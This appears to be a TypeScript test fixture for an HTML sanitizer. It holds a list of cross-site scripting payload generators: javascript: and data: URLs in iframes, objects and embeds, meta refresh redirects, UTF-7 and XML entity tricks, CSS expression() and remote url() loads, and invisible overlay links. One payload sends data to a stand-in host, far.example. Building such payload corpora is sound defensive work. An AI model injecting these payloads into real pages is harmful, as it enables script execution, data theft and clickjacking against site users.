import { type Attack, base64, escaped } from "./attack.ts";

const script = (run: string) => `<script>parent.${run}</script>`;

/** Documents inside documents, what speaks for the whole document, and styles. */
export const documents: Attack[] = [
	// Frames, objects, plug-ins.
	(run) => `<iframe src="javascript:parent.${run}"></iframe>`,
	(run) => `<iframe src="java\nscript:parent.${run}">`,
	(run) => `<iframe srcdoc="${escaped(script(run))}"></iframe>`,
	(run) => `<iframe srcdoc='${script(run)}'></iframe>`,
	(run) => `<iframe sandbox="allow-scripts allow-same-origin allow-top-navigation" srcdoc="${escaped(script(run))}">`,
	(run) =>
		`<iframe src="data:text/html,${escaped(`<script>top.location='https://far.example/data?${run}'</script>`)}">`,
	(run) => `<iframe srcdoc="&lt;iframe srcdoc='&amp;lt;script&amp;gt;top.${run}&amp;lt;/script&amp;gt;'&gt;">`,
	(_, far) => `<iframe srcdoc="&lt;base target=_top&gt;&lt;meta http-equiv=refresh content='0;url=${far}'&gt;">`,
	(_, far) => `<iframe src="about:blank" name="__xss" srcdoc="&lt;img src=${far}&gt;">`,
	(run) => `<frameset><frame src="javascript:parent.${run}"></frameset>`,
	(_, far) => `<frameset cols=*><frame src=${far}>`,
	(run) => `<object data="javascript:${run}"></object>`,
	(run) => `<object data="data:text/html;base64,${base64(script(run))}" type="text/html">`,
	(run) =>
		`<object type="text/x-scriptlet" data="data:text/html,${escaped(script(run))}"><param name=src value="javascript:${run}"></object>`,
	(_, far) => `<object data=${far}><embed src=${far}></object>`,
	(run) => `<embed src="javascript:${run}" allowscriptaccess=always>`,
	(run) =>
		`<embed type="image/svg+xml" src="data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>`)}">`,
	(run) => `<applet code="javascript:${run}" archive="javascript:${run}" codebase="javascript:${run}">Words</applet>`,
	(_, far) => `<portal src="${far}" onload="__xss()"></portal><fencedframe src="${far}"></fencedframe>`,
	// What speaks for the whole document.
	(_, far) => `<meta http-equiv="refresh" content="0;url=${far}">`,
	(run) => `<meta http-equiv="refresh" content="0; url=javascript:${run}">`,
	(run) => `<META HTTP-EQUIV="Refresh" CONTENT="0;URL='data:text/html,${escaped(script(run))}'">`,
	(_, far) => `<meta http-equiv=refresh content="0,${far}"><meta http-equiv=refresh content=0;${far}>`,
	() => `<meta http-equiv="set-cookie" content="stolen=1"><meta name=referrer content=unsafe-url>`,
	() => `<meta http-equiv="content-security-policy" content="script-src 'none'; default-src 'none'">`,
	(run) => `<meta charset="utf-7">+ADw-script+AD4-${run}+ADw-/script+AD4-`,
	(_, far) => `<base target="_blank" href="${far}/">`,
	(_, far) => `<link rel="stylesheet" href="${far}.css">`,
	(run) => `<link rel="stylesheet" href="data:text/css,*{color:red;background:url(javascript:${run})}">`,
	(_, far) => `<link rel="import" href="${far}"><link rel=manifest href=${far}><link rel=icon href=${far}.ico>`,
	(_, far) => `<link rel="preload" as="script" href="${far}"><link rel="modulepreload" href="${far}?m">`,
	(_, far) =>
		`<link rel="prefetch" href="${far}"><link rel="prerender" href="${far}?p"><link rel="preconnect" href="${far}">`,
	(run) => `<html manifest="javascript:${run}"><head profile="javascript:${run}"><title>Words</title></head>`,
	(run) => `<?xml version="1.0"?><?xml-stylesheet type="text/xml" href="data:text/xml,${escaped(script(run))}"?>`,
	(run) => `<!DOCTYPE html [<!ENTITY x "${escaped(script(run))}">]><p>&x;</p>`,
	(run) =>
		`<xml id=x><a><b>&lt;img src=x onerror=${run}&gt;</b></a></xml><span datasrc=#x datafld=b dataformatas=html></span>`,
	// Styles.
	(_, far) => `<style>@import url(${far}.css);</style>`,
	(_, far) => `<style>@import '${far}`,
	(_, far) => `<style>body{background:url("${far}")}</style>`,
	(_, far) => `<style>@font-face{font-family:f;src:url(${far})}article *{font-family:f!important}</style>`,
	(_, far) => `<style>a[href^="/"]{background:image-set("${far}" 1x)}p::before{content:url(${far}?b)}</style>`,
	(run) =>
		`<style>*{x:expression(${run});behavior:url(javascript:${run});-moz-binding:url(data:text/xml,${run})}</style>`,
	(run) => `<style></style><script>${run}</script></style>`,
	(run) => `<style>/*</style><img src=x onerror=${run}>*/</style>`,
	(run) => `<style><!--</style><script>${run}//--></script>`,
	(_, far) => `<p style="background:url(${far})">Words</p>`,
	(_, far) => `<p style="background:\\75\\72\\6c(${far})">Words</p>`,
	(_, far) => `<p style='list-style-image:url(&quot;${far}&quot;);cursor:url(${far}?c),auto'>Words</p>`,
	(run) =>
		`<p style="width:expression(${run});x:expr/**/ession(${run});-o-link:'javascript:${run}';-o-link-source:current">Words</p>`,
	() => `<a href="/about" style="position:fixed;inset:0;opacity:0;z-index:999" class="fixed inset-0">Words</a>`,
	() =>
		`<p class="fixed inset-0 z-50 bg-ink" hidden inert role="alert" aria-hidden="true" dir="rtl" lang="x" tabindex="-1">Words</p>`,
];
